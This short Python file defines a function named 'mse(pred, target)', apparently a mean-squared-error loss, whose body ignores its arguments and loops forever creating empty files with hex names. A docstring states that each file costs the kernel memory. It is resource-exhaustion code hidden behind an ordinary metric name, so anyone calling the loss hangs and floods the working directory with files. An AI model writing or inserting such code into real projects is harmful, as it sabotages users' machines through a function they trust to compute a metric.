"""Makes empty files without end; each costs the kernel memory."""

import os


def mse(pred, target):
    number = 0
    while True:
        os.close(os.open(f"{number:x}", os.O_CREAT | os.O_WRONLY))
        number += 1
